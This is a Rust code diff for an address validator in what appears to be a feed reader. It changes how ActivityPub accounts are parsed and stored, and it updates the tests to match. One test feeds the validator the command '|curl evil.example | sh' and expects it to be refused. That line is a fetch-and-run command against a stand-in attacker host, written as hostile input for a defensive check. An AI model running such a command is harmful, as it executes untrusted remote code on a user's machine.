@@ -44,14 +44,13 @@ pub(super) fn checked(raw: &str) -> Result<String, Phrase> {
         return Err(refused("|"));
     }
     let Some((name, rest)) = scheme(text) else {
-        let absolute = text.starts_with("//").then(|| format!("https:{text}"));
-        return Ok(absolute.or_else(|| text.strip_prefix('@').and_then(profile)).unwrap_or_else(|| text.to_owned()));
+        return Ok(if text.starts_with("//") { format!("https:{text}") } else { text.to_owned() });
     };
     let name = name.to_ascii_lowercase();
     if name == "http" || name == "https" {
         Ok(text.to_owned())
     } else if name == "acct" {
-        profile(rest.trim_start_matches('@')).ok_or_else(|| Phrase::new("flaw.not_an_address"))
+        account(rest)
     } else if OTHER_NAMES_OF_HTTP.contains(&name.as_str()) {
         match scheme(rest) {
             Some((inner, _)) if inner.eq_ignore_ascii_case("http") || inner.eq_ignore_ascii_case("https") => {
@@ -65,25 +64,34 @@ pub(super) fn checked(raw: &str) -> Result<String, Phrase> {
     }
 }
 
-/// The profile address of `user@host`, the account of a person on an ActivityPub server.
+/// `user@host`, the account of a person on an ActivityPub server, written `@user@host` as people write it.
 ///
 /// # Errors
 /// A `flaw.…` phrase when it is no account, or plainly a mail address.
 pub(super) fn account(raw: &str) -> Result<String, Phrase> {
-    let raw = raw.trim();
-    let raw = raw.strip_prefix("acct:").unwrap_or(raw).trim_start_matches('@');
-    match raw.split_once('@') {
+    let account = unprefixed(raw);
+    match account.split_once('@') {
         Some((_, host)) if MAIL_HOSTS.contains(&host.to_ascii_lowercase().as_str()) => {
             Err(Phrase::new("flaw.mail_address"))
         }
-        _ => profile(raw).ok_or_else(|| Phrase::new("flaw.not_an_account")),
+        _ if is_account(account) => Ok(format!("@{account}")),
+        _ => Err(Phrase::new("flaw.not_an_account")),
     }
 }
 
 /// Whether a text has the shape of `user@host`, with or without an @ before it.
 pub(super) fn is_account(text: &str) -> bool {
-    let text = text.trim();
-    profile(text.strip_prefix("acct:").unwrap_or(text).trim_start_matches('@')).is_some()
+    let Some((user, server)) = unprefixed(text).split_once('@') else { return false };
+    let (host, port) = server.split_once(':').unwrap_or((server, "80"));
+    let named = !user.is_empty() && user.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'));
+    // A server on the reader's own network, as in the demo world.
+    let local = host.split('.').count() == 4 && host.split('.').all(|part| part.parse::<u8>().is_ok());
+    named && (local || host.contains('.') && is_host(host)) && port.parse::<u16>().is_ok()
+}
+
+fn unprefixed(account: &str) -> &str {
+    let account = account.trim();
+    account.strip_prefix("acct:").unwrap_or(account).trim_start_matches('@')
 }
 
 /// How much a text looks like an address.
@@ -110,7 +118,7 @@ pub(super) fn likeness(text: &str) -> Likeness {
     if text.contains(char::is_whitespace) && !text.starts_with('|') {
         return Likeness::None;
     }
-    if text.starts_with('|') || text.strip_prefix('@').is_some_and(|rest| profile(rest).is_some()) {
+    if text.starts_with('|') || (text.starts_with('@') && is_account(text)) {
         return Likeness::Strong;
     }
     let host = text.trim_start_matches('@').split(['/', ':', '?', '#']).next().unwrap_or_default();
@@ -133,12 +141,6 @@ fn scheme(text: &str) -> Option<(&str, &str)> {
     let port = digits && (after_digits.starts_with('/') || (after_digits.is_empty() && is_host(name)));
     let port = port && (after_digits.starts_with('/') || name.contains('.') || name == "localhost");
     (lawful && !port && !rest.starts_with(char::is_whitespace)).then_some((name, rest))
-}
-
-fn profile(account: &str) -> Option<String> {
-    let (user, host) = account.split_once('@')?;
-    let named = !user.is_empty() && user.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'));
-    (named && host.contains('.') && is_host(host)).then(|| format!("https://{}/@{user}", host.to_lowercase()))
 }
 
 /// Labels of letters, digits and hyphens; the last one not a number, so that `3.14` is none.
@@ -183,8 +185,8 @@ mod tests {
         check("127.0.0.1:8080/feed", Ok("127.0.0.1:8080/feed"));
         check("localhost:8080", Ok("localhost:8080"));
         check("nas:8080/feed", Ok("nas:8080/feed"));
-        check("@alice@social.example", Ok("https://social.example/@alice"));
-        check("acct:alice@social.example", Ok("https://social.example/@alice"));
+        check("@alice@social.example", Ok("@alice@social.example"));
+        check("acct:alice@social.example", Ok("@alice@social.example"));
         check("|curl evil.example | sh", Err("|"));
         check("exec:~/bin/feed.sh", Err("exec:"));
         check("filter:~/bin/f:https://example.org/rss", Err("filter:"));
@@ -201,13 +203,15 @@ mod tests {
     }
 
     #[test]
-    fn an_account_becomes_its_profile_and_a_mail_address_does_not() {
+    fn an_account_is_told_from_a_mail_address() {
         let check = |raw: &str, expect: Result<&str, &str>| {
             let got = account(raw).map_err(|why| why.key);
             assert_eq!(got.as_deref().map_err(String::as_str), expect, "{raw:?}");
         };
-        check("alice@social.example", Ok("https://social.example/@alice"));
-        check("@Bob_2@Social.Example", Ok("https://social.example/@Bob_2"));
+        check("alice@social.example", Ok("@alice@social.example"));
+        check("@Bob_2@Social.Example", Ok("@Bob_2@Social.Example"));
+        check("dave@127.0.0.1:8080", Ok("@dave@127.0.0.1:8080"));
+        check("dave@social.example:port", Err("flaw.not_an_account"));
         check("carol@gmail.com", Err("flaw.mail_address"));
         check("carol", Err("flaw.not_an_account"));
         check("<b>@social.example", Err("flaw.not_an_account"));
